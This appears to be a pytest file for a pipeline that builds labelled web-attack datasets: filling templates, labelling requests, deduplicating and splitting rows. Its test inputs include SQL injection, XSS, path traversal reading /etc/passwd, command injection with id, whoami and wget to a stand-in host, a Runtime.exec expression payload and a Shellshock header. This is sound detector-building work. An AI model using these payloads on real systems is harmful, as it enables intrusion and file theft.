"""From sources to labelled rows: filling, labels, keys and splits, on sources written here."""

from __future__ import annotations

import base64
import gzip
import json
import random
from collections import Counter
from pathlib import Path
from typing import Any

import data
import exploitdb
import pytest
from fill import fill, vary
from hypothesis import given, settings
from hypothesis import strategies as st
from label import BY_CWE, CLASSES, SHOWS, attack_text, core, decoded, fold_key, label_of, text_of

GET = "GET {} HTTP/1.1\nHost: www.example.com\n"


def rng() -> random.Random:
    return random.Random(0)


# --- fill


@pytest.mark.parametrize(
    ("template", "filled"),
    [
        ("{{url_encode('<b>')}}", "%3Cb%3E"),
        ("{{base64('a' + 'b')}}", "YWI="),
        ("{{repeat('../', 3)}}etc", "../../../etc"),
        ('{{to_lower("ABC")}}', "abc"),
        ("{{url_encode(base64('x'))}}", "eA%3D%3D"),
        ("{{base64('{{to_upper(\"q\")}}')}}", "UQ=="),
        ("{{7*7}}", "{{7*7}}"),
        ("{{228*'98'}}", "{{228*'98'}}"),
        ("{{hex_decode('41')}}", "A"),
    ],
)
def test_helpers_are_expanded_and_probes_stay(template: str, filled: str) -> None:
    assert fill(f"GET /?q={template} HTTP/1.1\n", rng()) == f"GET /?q={filled} HTTP/1.1\n"


def test_session_values_become_tokens_and_annotations_go() -> None:
    text = fill("@timeout: 20s\nGET /?n={{nonce}}&c={{cluster-name}} HTTP/1.1\n", rng())
    assert text.startswith("GET /?n=")
    assert "{" not in text
    assert fill("@Host: nothing else\n", rng()) == ""


def test_gadget_is_a_java_stream() -> None:
    text = fill(
        "POST /{{generate_java_gadget('dns', 'http://a.example', 'base64')}} HTTP/1.1\n", rng()
    )
    stream = base64.b64decode(text.split("/", 1)[1].split(" ")[0])
    assert stream.startswith(b"\xac\xed\0\x05sr")
    assert b"a.example" in stream


def test_fixed_fillers_vary_and_the_head_has_crlf() -> None:
    request = (
        "GET /2Xk9QmZ?u=http%3a%2fc8k2m1v3q9t0.oast.fun HTTP/1.1\nHost: www.example.com\n\nb=1\nc"
    )
    one, two = vary(request, random.Random(1)), vary(request, random.Random(2))
    assert one != two
    for text in (one, two):
        assert not any(mark in text for mark in ("2Xk9QmZ", "oast", "example.com"))
        assert "%3a%2f" in text
        assert " HTTP/1.1\r\nHost: " in text
        assert text.endswith("\r\n\r\nb=1\nc")


@settings(deadline=None)
@given(st.text(max_size=300))
def test_fill_takes_any_text(text: str) -> None:
    fill("GET /" + text + " HTTP/1.1", rng())
    fill("GET /{{" + text + "}} HTTP/1.1", rng())


# --- labels and keys


def test_classes_are_those_of_the_contract() -> None:
    assert len(CLASSES) == 11
    assert set(SHOWS) == set(CLASSES)
    assert BY_CWE["CWE-23"] == "path-traversal"
    assert BY_CWE["CWE-917"] == "code-injection"


@pytest.mark.parametrize(
    ("allowed", "target", "flagged", "expected"),
    [
        (["sql-injection"], "/?id=1%27%20or%201=1--", True, "sql-injection"),
        (["sql-injection"], "/?id=1%27%20or%201=1--", False, "sql-injection"),
        (["open-redirect"], "/?to=http://a.example", False, None),
        (["sql-injection", "cross-site-scripting"], "/?q=<svg/onload=alert(1)>", True,
         "cross-site-scripting"),
        (["file-upload"], "/up.php?cmd=cat+/etc/passwd", True, "attack"),
        (["command-injection"], "/?x=${T(java.lang.Runtime).getRuntime().exec('id')}", True,
         "code-injection"),
        (["command-injection"], "/?ip=;id;", True, "command-injection"),
        ([], "/?file=../../etc/passwd", True, "attack"),
        ([], "/index.php", True, None),
        (["sql-injection"], "/readme.txt", False, None),
    ],
)  # fmt: skip
def test_label(allowed: list[str], target: str, flagged: bool, expected: str | None) -> None:
    assert label_of(allowed, GET.format(target), flagged) == expected


def test_execution_without_how_is_told_only_by_decisive_signs() -> None:
    assert label_of([], GET.format("/?ip=;wget+http://a.example"), True) == "attack"
    found = label_of([], GET.format("/?ip=;wget+http://a.example"), True, execution=True)
    assert found == "command-injection"


def test_place_and_browser_are_not_read_for_labels() -> None:
    text = attack_text("GET / HTTP/1.1\nHost: ../../etc\nUser-Agent: ;id;\nX-Cmd: whoami\n\nbody")
    assert text == "get /\n\nwhoami\n\nbody"


def test_fold_key_sees_through_spelling() -> None:
    assert fold_key("1%2527 OR  1=1") == fold_key("23%27+or 4=5")
    assert fold_key("a") != fold_key("b")
    one = b"GET /a?x=1 HTTP/1.1\r\nHost: one.example\r\nUser-Agent: u\r\n\r\nbody 1"
    two = b"GET http://two.example/a?x=2 HTTP/1.0\nHost: two.example\n\nbody 22"
    assert fold_key(one, "http") == fold_key(two, "http")
    assert fold_key(one, "http") != fold_key(one.replace(b"GET", b"PUT"), "http")


@settings(deadline=None)
@given(st.binary(max_size=300))
def test_keys_take_any_bytes(payload: bytes) -> None:
    fold_key(payload)
    fold_key(payload, "http")
    core(payload)
    decoded(payload)


@settings(deadline=None)
@given(st.binary(max_size=100))
def test_rows_keep_every_byte(payload: bytes) -> None:
    row = data._row("s", 1, payload, "value", "attack")
    assert text_of(json.loads(json.dumps(row))) == payload


@pytest.mark.parametrize(
    ("host", "domain"),
    [
        ("a.b.example.com", "example.com"),
        ("shop.example.com.cn:8080", "example.com.cn"),
        ("192.0.2.7", "192.0.2.7"),
        ("localhost", "localhost"),
    ],
)
def test_registered_domain(host: str, domain: str) -> None:
    assert data.registered_domain(host) == domain


# --- build


def template(
    number: int, cve: str | None, product: str, request: str, **more: Any
) -> dict[str, Any]:
    return {
        "id": cve or f"t{number}", "dir": "http/cves", "cve": [cve] if cve else [],
        "cwe": ["CWE-89"],
        "vuln_tags": ["sqli"], "product": product, "description": "A flaw.",
        "requests_filled": [GET.format(request)], "req_attack_flag": [True],
    } | more  # fmt: skip


def exploit(number: int, cve: str, url: str) -> dict[str, Any]:
    return {"edb": str(number), "path": "a.txt", "cve": [cve], "title": "A flaw", "requests": [],
            "urls": [url], "head": url}  # fmt: skip


@pytest.fixture
def sources(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "payload").mkdir()
    (tmp_path / "vuln_text").mkdir()
    for name in data.TEXTS:
        (tmp_path / "vuln_text" / f"{name}.jsonl.gz").write_bytes(gzip.compress(b"{}"))

    def write(name: str, rows: list[Any]) -> None:
        text = "\n".join(r if isinstance(r, str) else json.dumps(r) for r in rows)
        (tmp_path / "payload" / name).write_bytes(gzip.compress(text.encode()))

    templates = [
        template(n, f"CVE-20{n % 5 + 18}-{1000 + n}", f"product{n % 37}", f"/p{n}x?id=1'+or+{n}=1")
        for n in range(120)
    ]
    probe = template(500, None, "panel", "/login", cwe=[], vuln_tags=[], req_attack_flag=[False])
    write("nuclei_pairs.jsonl.gz", [*templates, probe])
    injected = [
        {"src": "PATT", "cls": "SQL Injection", "file": "a.txt", "payload": f"' or {w}='{w}'--"}
        for w in map("w{:c}".format, range(97, 123))
    ]
    legal = [{"src": "grananqvist", "cls": "LEGAL", "payload": f"street{c}"} for c in "abcdefgh"]
    junk = [
        {"src": "fuzzdb", "cls": "mimetypes", "file": "m.txt", "payload": "text/html"},
        {"src": "fwaf_bad", "cls": None, "payload": "' or 'q'='q"},
        {"src": "grananqvist", "cls": "LEGAL", "payload": "1|id||"},
        {"src": "PATT", "cls": "SQL Injection", "file": "a.txt", "payload": "# a comment"},
    ]
    write("payload_lists.jsonl.gz", [*injected, *legal, *junk])
    exploits = [
        exploit(1, "CVE-2019-1001", "http://a.example/p2.php?id=1'+or+1=1--"),
        exploit(2, "CVE-2011-2", "http://a.example/p3.php?f=../../etc/passwd"),
        exploit(3, "CVE-2011-3", "http://a.example/p4.php?f=plain"),
    ]
    write("exploitdb_web.jsonl.gz", exploits)
    read = {r["id"]: exploitdb.digest(r["payload"]) for r in exploitdb.rows(tmp_path)}
    labels = {"1": "sql-injection", "2": "path-traversal", "3": "none"}
    audit = [
        {"id": i, "label": labels[i], "read": d if i != "2" else "changed", "draw": "sample"}
        for i, d in read.items()
    ]
    (tmp_path / "audit.jsonl").write_text("\n".join(map(json.dumps, audit)))
    monkeypatch.setattr(exploitdb, "AUDIT", tmp_path / "audit.jsonl")
    known = [
        {"payload": "' OR wa='wa'--", "attack_type": "sqli"},
        {"payload": "streeta", "attack_type": "norm"},
    ]
    write("httpparams.jsonl.gz", known)
    write("csic.jsonl.gz", [{"request": GET.format("/tienda?x=%27"), "label": "attack"}])
    hosts = [
        {
            "host": f"h.site{n}.example",
            "request": f"GET /{n}p{chr(97 + n % 26)} HTTP/1.1\r\n\r\n\xe9",
        }
        for n in range(60)
    ]
    write("blazehttp_benign.jsonl.gz", hosts)
    line = '192.0.2.{} - - [17/May/2015:10:05:03 +0000] "GET /f{} HTTP/1.1" 200 1 "-" "agent"'
    write("apache_access.log.gz", [line.format(n % 9, chr(97 + n)) for n in range(20)])
    return tmp_path


def test_build_keeps_tests_whole_and_apart(sources: Path) -> None:
    counts: Counter[str] = Counter()
    splits = data.build(sources, counts)
    assert list(splits) == list(data.SPLITS)
    tests = [row for name, rows in splits.items() if name.startswith("test") for row in rows]
    learnt = splits["train"] + splits["valid"]
    keys = {fold_key(text_of(row), row["kind"]) for row in tests}
    assert not keys & {fold_key(text_of(row), row["kind"]) for row in learnt}
    apart = [name for name in data.SPLITS if name != "test_disguised"]
    for one in apart:
        for two in apart:
            groups = [{r["group"] for r in splits[n] if "group" in r} for n in (one, two)]
            assert one == two or not groups[0] & groups[1]
    assert all(row["year"] >= 2022 for row in splits["test_later"])
    assert len(splits["test_later"]) == 24
    assert all(row.get("year", 0) < 2022 for row in learnt)
    assert len(splits["test_httpparams"]) == 2
    assert [row["id"] for row in splits["test_exploitdb"]] == ["exploitdb/1"]  # read, of a class
    assert not any("CVE-2019-1001" in row.get("cve", ()) for row in learnt)
    assert counts["train: CVE in a test or validation split"] == 1
    assert counts["train: near-duplicate of a test or validation row"] >= 2
    assert counts["train: group in a test or validation split"] > 0
    assert {row["source"] for row in learnt}.isdisjoint({"httpparams", "csic", "exploitdb"})
    assert all(splits.values())


def test_build_drops_junk_and_repeats_itself(sources: Path, tmp_path: Path) -> None:
    splits = data.build(sources)
    payloads = {row.get("payload") for rows in splits.values() for row in rows}
    assert payloads.isdisjoint({"text/html", "1|id||", "# a comment"})
    assert not any(row["id"].endswith("t500/0") for rows in splits.values() for row in rows)
    data.write(splits, tmp_path / "one")
    data.write(data.build(sources), tmp_path / "two")
    for path in (tmp_path / "one").iterdir():
        assert path.read_bytes() == (tmp_path / "two" / path.name).read_bytes()
    assert "sql-injection" in data.table(splits)


def test_disguise_keeps_the_attack_and_takes_the_place() -> None:
    attack = (
        b"POST http://a.example/x?q=%27 HTTP/1.1\r\nHost: a.example\r\nUser-Agent: scanner\r\n"
        b"Referer: () { :; }; id\r\nX-Cmd: id\r\nContent-Type: text/xml\r\n\r\n<a/>"
    )
    benign = (
        b"GET / HTTP/1.1\r\nHost: b.example\r\nUser-Agent: browser\r\nReferer: b\r\n"
        b"Content-Length: 9\r\n\r\nbody body"
    )
    head, _, body = data.disguise(attack, benign).partition(b"\r\n\r\n")
    assert body == b"<a/>"
    assert head.split(b"\r\n") == [
        b"POST /x?q=%27 HTTP/1.1", b"Host: b.example", b"User-Agent: browser",
        b"Referer: () { :; }; id", b"X-Cmd: id", b"Content-Type: text/xml",
    ]  # fmt: skip


def test_the_command_makes_a_training_directory(
    sources: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "rows"
    monkeypatch.setattr("sys.argv", ["data.py", "--data", str(sources), "--out", str(out)])
    data.main()
    assert {p.name for p in (out / "texts").iterdir()} == {f"{n}.jsonl.gz" for n in data.TEXTS}
    assert {p.name for p in out.glob("*.jsonl.gz")} == {f"{n}.jsonl.gz" for n in data.SPLITS}
    card = json.loads((out / "card.json").read_text())
    assert card["rows"]["test_exploitdb"] == {"sql-injection": 1}
    assert sum(card["dropped"].values()) > 2


def test_rows_are_read_by_the_package(sources: Path, tmp_path: Path) -> None:
    from dragoman.records import Labelled
    from dragoman.sources import read_labelled

    splits = data.build(sources)
    data.write(splits, tmp_path / "out")
    for name, rows in splits.items():
        found = list(read_labelled(str(tmp_path / "out" / f"{name}.jsonl.gz")))
        assert len(found) == len(rows)
        for row, labelled in zip(rows, found, strict=True):
            assert isinstance(labelled, Labelled)
            assert labelled.payload.data == text_of(row)
            assert (labelled.label, labelled.group) == (row["label"], row.get("group"))
